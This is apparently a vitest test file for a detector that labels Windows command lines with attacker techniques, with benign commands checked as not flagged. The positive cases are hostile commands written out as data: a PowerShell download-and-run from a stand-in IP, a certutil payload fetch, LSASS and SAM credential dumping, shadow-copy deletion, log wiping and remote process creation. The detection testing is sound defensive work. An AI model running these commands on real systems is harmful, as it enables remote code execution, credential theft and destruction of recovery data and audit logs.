import { expect, test } from 'vitest';
import { tellsOf } from '../techniques.ts';

const titles = (command: string) => tellsOf(command).map(({ title }) => title);

test.each([
  ['powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwA=', 'Encoded command run'],
  ['powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.7/a\')"', 'Program fetched and run'],
  [
    'certutil.exe -urlcache -split -f http://192.0.2.7/a.exe a.exe',
    'Program fetched by a tool that is not made for it',
  ],
  [
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 a.dmp full',
    'Passwords taken from memory or the registry',
  ],
  ['reg save HKLM\\SAM sam.hiv', 'Passwords taken from memory or the registry'],
  ['vssadmin delete shadows /all /quiet', 'Shadow copies deleted'],
  ['wevtutil cl Security', 'Windows log wiped'],
  ['wmic /node:DESK07 process call create "cmd /c ver"', 'Command sent to another host'],
  ['sc.exe \\\\DESK07 create x binPath= C:\\x.exe', 'Command sent to another host'],
])('%s', (command, title) => {
  expect(titles(command)).toContain(title);
});

test.each([
  'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1',
  'powershell.exe -Command Get-Content -Encoding UTF8 C:\\a.txt',
  'certutil -hashfile a.iso SHA256',
  'vssadmin list shadows',
  'wevtutil qe System /c:5',
  'wmic os get caption',
  'sc query spooler',
  'reg query HKLM\\Software\\Microsoft',
])('says nothing: %s', (command) => {
  expect(titles(command)).toEqual([]);
});
